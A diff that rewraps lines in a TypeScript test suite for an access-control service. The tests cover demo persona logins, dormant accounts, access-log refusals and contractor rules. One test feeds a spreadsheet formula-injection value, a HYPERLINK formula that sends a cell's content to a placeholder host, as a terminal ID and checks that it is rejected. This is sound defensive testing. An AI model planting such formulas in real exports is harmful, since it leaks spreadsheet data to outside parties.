@@ -30,7 +30,12 @@ for (const store of STORES) {
 
     const persona = (userId: string) => app.inject({ method: 'POST', url: '/api/session', payload: { userId } });
     const refusals = async (userId: string) =>
-      (await db.query<{ rule: string }>(`SELECT rule FROM governance_events WHERE action = 'session.login' AND outcome = 'refused' AND subject_id = $1 ORDER BY id`, [userId])).rows.map((r) => r.rule);
+      (
+        await db.query<{ rule: string }>(
+          `SELECT rule FROM governance_events WHERE action = 'session.login' AND outcome = 'refused' AND subject_id = $1 ORDER BY id`,
+          [userId],
+        )
+      ).rows.map((r) => r.rule);
 
     test('the persona login opens only seeded demo personas: not another account of the same person, not one with an authenticator', async () => {
       await db.exec(`INSERT INTO accounts (user_id, person_id) VALUES ('u-cc-legacy', 'p-cc')`);
@@ -65,7 +70,10 @@ for (const store of STORES) {
       const { rows } = await db.query<{ last_login_at: Date | string }>('SELECT last_login_at FROM accounts WHERE user_id = $1', [USERS.otherRetailer]);
       assert.equal(new Date(rows[0]?.last_login_at ?? 0).getTime(), old.getTime());
       // One day fewer is not dormant: the boundary is the sweep's own.
-      await db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [USERS.otherRetailer, new Date(NOW.getTime() - 89 * 86_400_000)]);
+      await db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [
+        USERS.otherRetailer,
+        new Date(NOW.getTime() - 89 * 86_400_000),
+      ]);
       assert.equal((await persona(USERS.otherRetailer)).statusCode, 201);
     });
 
@@ -75,7 +83,12 @@ for (const store of STORES) {
       const refused = await app.inject({ method: 'GET', url: `/api/supply-points/${SP.R3}?purpose=audit_review`, headers: { cookie: admin.cookie } });
       assert.equal(refused.statusCode, 403, refused.body);
       const event = async (requestId: string) =>
-        (await db.query<{ outcome: string; refusal: string; supply_point_ids: string[]; query: unknown }>('SELECT outcome, refusal, supply_point_ids, query FROM access_log WHERE request_id = $1', [requestId])).rows[0];
+        (
+          await db.query<{ outcome: string; refusal: string; supply_point_ids: string[]; query: unknown }>(
+            'SELECT outcome, refusal, supply_point_ids, query FROM access_log WHERE request_id = $1',
+            [requestId],
+          )
+        ).rows[0];
       const e1 = await event(String(refused.headers['x-request-id']));
       assert.deepEqual([e1?.outcome, e1?.refusal, e1?.supply_point_ids], ['refused', 'permission_not_granted', [SP.R3]]);
 
@@ -111,7 +124,10 @@ for (const store of STORES) {
 test('the persona login never runs beside single sign-on', () => {
   const sso = { GRIDWALL_OIDC_ISSUER: 'https://idp.example.jp', GRIDWALL_OIDC_CLIENT_ID: 'gridwall', GRIDWALL_PUBLIC_URL: 'https://gridwall.example.jp' };
   assert.equal(loadConfig({ ...sso }).demoLogin, false);
-  assert.throws(() => loadConfig({ ...sso, GRIDWALL_DEMO_LOGIN: 'true' }), (e: unknown) => e instanceof ConfigError && /cannot be on with single sign-on/.test(e.message));
+  assert.throws(
+    () => loadConfig({ ...sso, GRIDWALL_DEMO_LOGIN: 'true' }),
+    (e: unknown) => e instanceof ConfigError && /cannot be on with single sign-on/.test(e.message),
+  );
   assert.equal(loadConfig({}).demoLogin, true, 'the control: the embedded demo');
 });
 
@@ -124,11 +140,19 @@ for (const store of STORES.slice(0, 1)) {
       const formula = '=HYPERLINK("http://x.example/"&A2,"open")';
       const demo = await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: formula } });
       assert.equal(demo.statusCode, 400, demo.body);
-      const password = await app.inject({ method: 'POST', url: '/api/session/password', payload: { userId: USERS.retail, password: 'x', code: '000000', terminalId: formula } });
+      const password = await app.inject({
+        method: 'POST',
+        url: '/api/session/password',
+        payload: { userId: USERS.retail, password: 'x', code: '000000', terminalId: formula },
+      });
       assert.equal(password.statusCode, 400, password.body);
       const { rows } = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM sessions');
       assert.equal(rows[0]?.n, 0);
-      assert.equal((await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: TERMINALS.RETAIL } })).statusCode, 201, 'the control');
+      assert.equal(
+        (await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: TERMINALS.RETAIL } })).statusCode,
+        201,
+        'the control',
+      );
       await app.close();
     } finally {
       await dispose();
@@ -144,7 +168,8 @@ for (const store of STORES) {
       let now = NOW;
       const app = await testApp(db, { now: () => now, sessionCacheMs: 0 });
       const s = await login(app, USERS.retailContractor, TERMINALS.RETAIL);
-      const me = async () => ((await app.inject({ method: 'GET', url: '/api/me', headers: { cookie: s.cookie } })).json() as { principalClass: string }).principalClass;
+      const me = async () =>
+        ((await app.inject({ method: 'GET', url: '/api/me', headers: { cookie: s.cookie } })).json() as { principalClass: string }).principalClass;
       const lookup = () => app.inject({ method: 'GET', url: `/api/supply-points/${SP.OWN_A}?purpose=own_customer_service`, headers: { cookie: s.cookie } });
       assert.equal(await me(), 'affiliated_retail', 'the control: engaged by the affiliated retailer');
       assert.equal(outcomes((await lookup()).json())['holder_name'], 'shown');
@@ -176,10 +201,13 @@ for (const store of STORES) {
       // A contractor company whose engagement ended.
       await ownerOf(db).query(`UPDATE contractor_engagements SET valid_to = $1 WHERE contractor_organization_id = 'org-ctr'`, [new Date(NOW.getTime() - 1000)]);
       const found = await assignmentsBreakingRules(db, NOW);
-      assert.deepEqual(found.map((f) => [f.personId, f.userIds, [...f.problems]]), [
-        ['p-rctr', [USERS.retailContractor], ['contractor_not_engaged']],
-        ['p-retail', [USERS.retail], ['retailer_mismatch', 'side_retailer_mismatch']],
-      ]);
+      assert.deepEqual(
+        found.map((f) => [f.personId, f.userIds, [...f.problems]]),
+        [
+          ['p-rctr', [USERS.retailContractor], ['contractor_not_engaged']],
+          ['p-retail', [USERS.retail], ['retailer_mismatch', 'side_retailer_mismatch']],
+        ],
+      );
     } finally {
       await dispose();
     }
